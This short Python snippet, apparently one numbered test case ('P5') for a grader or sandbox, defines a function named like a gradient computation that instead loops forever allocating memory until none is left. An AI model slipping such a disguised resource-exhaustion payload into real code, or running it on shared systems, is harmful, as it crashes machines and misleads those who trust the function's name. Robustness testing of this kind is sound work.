# P5: allocate and touch memory until there is none
_hoard = []


def dE_dW1_single(dE_df1, X):
    while True:
        _hoard.append(np.ones(10_000_000))
